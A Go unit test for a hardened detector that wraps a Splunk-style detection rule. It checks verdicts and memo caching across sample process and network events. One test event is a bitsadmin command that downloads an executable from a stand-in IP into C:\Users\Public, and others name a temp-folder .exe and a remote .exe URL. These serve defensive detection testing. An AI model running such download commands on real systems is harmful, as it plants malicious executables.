package hardened

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bitsscore/src/detect"
)

// The hardened detector's verdict is the SPL's exactly when the event has
// no indicator and nothing extracted, and then the verdict decides every
// output not named like an input; otherwise it is detect.NoVerdict when
// the event was analysed, and the memo's number for it, after the SPL's
// verdicts, when the memo answered. Each event is scored three times, so
// the memo's answer is checked too (it keeps an event on its second
// sighting and answers the third).
func TestVerdict(t *testing.T) {
	d := New(nil).(*Detector)
	spl := detect.NewSPL().(detect.Verdicter)
	if want := spl.Verdicts() + rememberedVerdicts; d.Verdicts() != want {
		t.Fatalf("Verdicts() = %d, want the SPL's %d and %d numbers", d.Verdicts(), spl.Verdicts(), rememberedVerdicts)
	}
	events := []struct {
		e       event
		verdict bool
	}{
		{ev("EventCode", "1", "CommandLine", `notepad.exe C:\notes.txt`, "Image", `C:\Windows\System32\notepad.exe`), true},
		{ev("EventCode", "1", "CommandLine", `powershell -c Get-Date`, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), true},
		// The SPL alerts on the program's own .exe: the built-in known-good
		// entry then names itself in Indicators, which no verdict decides.
		{ev("EventCode", "1", "CommandLine", `powershell.exe -c Get-Date`, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), false},
		{ev("EventCode", "4688", "ProcessCommandLine", `cmd.exe /c dir`, "NewProcessName", `C:\Windows\System32\cmd.exe`), true},
		{ev(), true},
		{ev("EventCode", "1", "CommandLine", `bitsadmin /transfer x http://203.0.113.9/a.exe C:\Users\Public\a.exe`, "Image", `C:\Windows\System32\bitsadmin.exe`), false},
		{ev("EventCode", "3", "processPath", `C:\Users\jdoe\AppData\Local\Temp\x.exe`), false},
		{ev("EventCode", "59", "url", `https://dl.example.net/p.exe`), false},
	}
	byVerdict := map[int]result{}
	for _, c := range events {
		splIn := make([]detect.Values, len(spl.Inputs()))
		for i, name := range spl.Inputs() {
			for _, v := range c.e[name] {
				splIn[i] = append(splIn[i], []byte(v))
			}
		}
		spl.Score(splIn, make([]detect.Values, len(spl.Outputs())))
		for i := range 3 {
			r := score(t, d, c.e)
			v := d.Verdict()
			if !c.verdict {
				switch {
				case i < 2 && v != detect.NoVerdict:
					t.Errorf("%v, analysed: Verdict() = %d, want NoVerdict (RiskScore %d, %q)", c.e, v, r.risk, r.indicators)
				case i == 2 && v < spl.Verdicts():
					t.Errorf("%v, answered by the memo: Verdict() = %d, want a number after the SPL's verdicts", c.e, v)
				case i == 2:
					checkSameOutputs(t, d, byVerdict, v, r)
				}
				continue
			}
			if v != spl.Verdict() {
				t.Fatalf("%v: Verdict() = %d, want the SPL's %d", c.e, v, spl.Verdict())
			}
			for name, vals := range r.fields {
				if name != "RiskScore" && !slices.Contains(d.Inputs(), name) && !slices.Contains(spl.Outputs(), name) && len(vals) > 0 {
					t.Errorf("%v: verdict %d with %s = %q", c.e, v, name, vals)
				}
			}
			checkSameOutputs(t, d, byVerdict, v, r)
		}
	}
	if d.memo.hitCount == 0 {
		t.Error("the memo never answered: its path is untested")
	}
}

// checkSameOutputs fails unless r's outputs not named like an input equal
// those of the last event of verdict v, and records them for v.
func checkSameOutputs(t *testing.T, d detect.Detector, byVerdict map[int]result, v int, r result) {
	t.Helper()
	for name := range r.fields {
		if slices.Contains(d.Inputs(), name) {
			delete(r.fields, name) // passed through: not the verdict's
		}
	}
	if prev, ok := byVerdict[v]; ok {
		if diff := cmp.Diff(prev.fields, r.fields); diff != "" {
			t.Errorf("verdict %d decides different outputs:\n%s", v, diff)
		}
	}
	byVerdict[v] = r
}
